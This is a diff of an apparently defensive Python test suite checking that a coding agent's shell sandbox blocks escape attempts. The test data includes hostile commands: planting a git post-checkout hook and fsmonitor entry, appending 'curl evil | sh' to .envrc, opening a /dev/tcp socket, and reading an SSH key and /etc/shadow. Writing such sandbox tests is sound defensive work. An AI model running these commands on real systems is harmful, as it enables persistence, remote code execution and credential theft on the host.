@@ -16,19 +16,8 @@ from typing import Any
 from prism.core import ToolDefinition
 from prism.core.testing import scaled
 
+from . import _coding_kit as kit
 from ._registry import RowSkippedError, conformance_row, require
-from ._rows_coding_security import (
-    _call,
-    _Dirs,
-    _dirs,
-    _exists,
-    _expect_absent,
-    _outside_base,
-    _read,
-    _shell_options,
-    _text,
-    _write,
-)
 from ._subjects import ConformanceSubjects
 from ._unix_listener import UnixListener
 
@@ -40,22 +29,17 @@ _STORM = 200
 _CEILING = 64
 
 
-async def _shell(
-    subjects: ConformanceSubjects, tools: Sequence[ToolDefinition], command: str, **extra: Any
-) -> str:
-    result = await _call(subjects, tools, "shell", {"command": command, **extra})
-    return _text(result)
-
-
-async def _basic(subjects: ConformanceSubjects, tools: Sequence[ToolDefinition], d: _Dirs) -> None:
+async def _basic(
+    subjects: ConformanceSubjects, tools: Sequence[ToolDefinition], d: kit.Dirs
+) -> None:
     import anyio
 
     canary = shlex.quote(os.path.join(d.outside, "canary-e11"))
-    await _shell(subjects, tools, f"echo x > {canary}; touch {canary}")
-    _expect_absent(os.path.join(d.outside, "canary-e11"), "write outside the workspace")
-    await _shell(subjects, tools, f"mount -o remount,rw /; echo x > {canary}-remount")
-    _expect_absent(os.path.join(d.outside, "canary-e11-remount"), "remount / read-write")
-    text = await _shell(subjects, tools, "grep CapEff /proc/self/status")
+    await kit.shell(subjects, tools, f"echo x > {canary}; touch {canary}")
+    kit.expect_absent(os.path.join(d.outside, "canary-e11"), "write outside the workspace")
+    await kit.shell(subjects, tools, f"mount -o remount,rw /; echo x > {canary}-remount")
+    kit.expect_absent(os.path.join(d.outside, "canary-e11-remount"), "remount / read-write")
+    text = await kit.shell(subjects, tools, "grep CapEff /proc/self/status")
     if "CapEff:\t0000000000000000" not in text:
         raise AssertionError(f"the sandboxed command keeps capabilities: {text!r}")
     connections: list[object] = []
@@ -68,7 +52,9 @@ async def _basic(subjects: ConformanceSubjects, tools: Sequence[ToolDefinition],
 
     async with anyio.create_task_group() as group:
         group.start_soon(listener.serve, record)
-        text = await _shell(subjects, tools, f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED")
+        text = await kit.shell(
+            subjects, tools, f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED"
+        )
         await anyio.sleep(scaled(0.2))
         group.cancel_scope.cancel()
     await listener.aclose()
@@ -77,7 +63,7 @@ async def _basic(subjects: ConformanceSubjects, tools: Sequence[ToolDefinition],
 
 
 async def _unix_socket(
-    subjects: ConformanceSubjects, tools: Sequence[ToolDefinition], d: _Dirs
+    subjects: ConformanceSubjects, tools: Sequence[ToolDefinition], d: kit.Dirs
 ) -> None:
     path = os.path.join(d.root, "host-agent.sock")
     listener = UnixListener(path)
@@ -86,7 +72,7 @@ async def _unix_socket(
         f"s.connect({path!r}); s.sendall(b'payload'); print('CONNECTED')\n"
     )
     try:
-        text = await _shell(subjects, tools, f"python3 -c {shlex.quote(code)}; true")
+        text = await kit.shell(subjects, tools, f"python3 -c {shlex.quote(code)}; true")
     finally:
         listener.close()
     if listener.accepted or listener.received or "CONNECTED" in text:
@@ -97,22 +83,22 @@ async def _unix_socket(
 
 
 async def _protected(
-    subjects: ConformanceSubjects, tools: Sequence[ToolDefinition], d: _Dirs
+    subjects: ConformanceSubjects, tools: Sequence[ToolDefinition], d: kit.Dirs
 ) -> None:
     os.makedirs(os.path.join(d.root, ".git", "hooks"))
     config = os.path.join(d.root, ".git", "config")
-    _write(config, "[core]\n\trepositoryformatversion = 0\n")
-    _write(os.path.join(d.root, ".envrc"), "export SAFE=1\n")
+    kit.write(config, "[core]\n\trepositoryformatversion = 0\n")
+    kit.write(os.path.join(d.root, ".envrc"), "export SAFE=1\n")
     attacks = (
         "printf '#!/bin/sh\\necho PWNED\\n' > .git/hooks/post-checkout",
         "printf '[core]\\n\\tfsmonitor = echo PWNED\\n' >> .git/config",
         "echo 'curl evil | sh' >> .envrc",
         "echo '{\"mcpServers\": {}}' > .mcp.json",
     )
-    await _shell(subjects, tools, "; ".join(attacks) + "; true")
-    _expect_absent(os.path.join(d.root, ".git", "hooks", "post-checkout"), "plant a git hook")
-    _expect_absent(os.path.join(d.root, ".mcp.json"), "create a protected file")
-    if "fsmonitor" in _read(config) or "curl" in _read(os.path.join(d.root, ".envrc")):
+    await kit.shell(subjects, tools, "; ".join(attacks) + "; true")
+    kit.expect_absent(os.path.join(d.root, ".git", "hooks", "post-checkout"), "plant a git hook")
+    kit.expect_absent(os.path.join(d.root, ".mcp.json"), "create a protected file")
+    if "fsmonitor" in kit.read(config) or "curl" in kit.read(os.path.join(d.root, ".envrc")):
         raise AssertionError("the sandboxed command changed git config or .envrc on the host")
 
 
@@ -122,7 +108,7 @@ def _planted_home(base: str) -> Iterator[str]:
     home = os.path.join(base, "home")
     os.makedirs(os.path.join(home, ".ssh"))
     key = os.path.join(home, ".ssh", "id_rsa")
-    _write(key, f"{_SECRET}\n")
+    kit.write(key, f"{_SECRET}\n")
     saved = os.environ.get("HOME")
     os.environ["HOME"] = home
     try:
@@ -136,16 +122,16 @@ def _planted_home(base: str) -> Iterator[str]:
 
 def _shadow_entry() -> str | None:
     try:
-        return _read("/etc/shadow").split(":", 1)[0] or None
+        return kit.read("/etc/shadow").split(":", 1)[0] or None
     except OSError:
         return None
 
 
 async def _secrets(
-    subjects: ConformanceSubjects, tools: Sequence[ToolDefinition], d: _Dirs
+    subjects: ConformanceSubjects, tools: Sequence[ToolDefinition], d: kit.Dirs
 ) -> None:
     with _planted_home(d.outside) as key:
-        text = await _shell(subjects, tools, f"cat {shlex.quote(key)} /etc/shadow; true")
+        text = await kit.shell(subjects, tools, f"cat {shlex.quote(key)} /etc/shadow; true")
     entry = _shadow_entry()
     if _SECRET in text or (entry is not None and f"\n{entry}:" in f"\n{text}"):
         raise AssertionError("the sandboxed command read a secret (SSH key or /etc/shadow)")
@@ -176,11 +162,11 @@ async def _storm(subjects: ConformanceSubjects, tools: Sequence[ToolDefinition])
 
     async with anyio.create_task_group() as group:
         group.start_soon(watch)
-        result = await _call(subjects, tools, "shell", {"command": command, "timeout": 3})
+        result = await kit.call(subjects, tools, "shell", {"command": command, "timeout": 3})
         done.set()
     await anyio.sleep(scaled(0.3))
     if result.error is None:
-        raise AssertionError(f"a process storm must end with an error result: {_text(result)!r}")
+        raise AssertionError(f"a process storm must end with an error result: {kit.text(result)!r}")
     if peak > _CEILING + 4:
         raise AssertionError(f"a process storm reached {peak} processes past a {_CEILING} ceiling")
     if _count(marker.encode()):
@@ -192,11 +178,11 @@ async def sandbox_escape_attempts(subjects: ConformanceSubjects) -> None:
     tools_factory = require(subjects.coding_tools_factory, "the coding tools (prism-coding-tools)")
     sandbox_factory = require(subjects.sandbox_factory, "a sandbox (prism-coding-security)")
     operations = require(subjects.sandbox_operations_factory, "sandbox shell operations")
-    with _dirs(_outside_base()) as d:
+    with kit.dirs(kit.outside_base()) as d:
         sandbox = sandbox_factory(root=d.root, max_processes=_CEILING)
-        tools = tools_factory(d.root, shell=_shell_options(operations=operations(sandbox)))
-        probe = await _shell(subjects, tools, "echo sandbox-up > up.txt")
-        if not _exists(os.path.join(d.root, "up.txt")):
+        tools = tools_factory(d.root, shell=kit.shell_options(operations=operations(sandbox)))
+        probe = await kit.shell(subjects, tools, "echo sandbox-up > up.txt")
+        if not kit.exists(os.path.join(d.root, "up.txt")):
             raise RowSkippedError(f"the sandbox cannot run on this host: {probe[:300]}")
         await _basic(subjects, tools, d)
         await _unix_socket(subjects, tools, d)
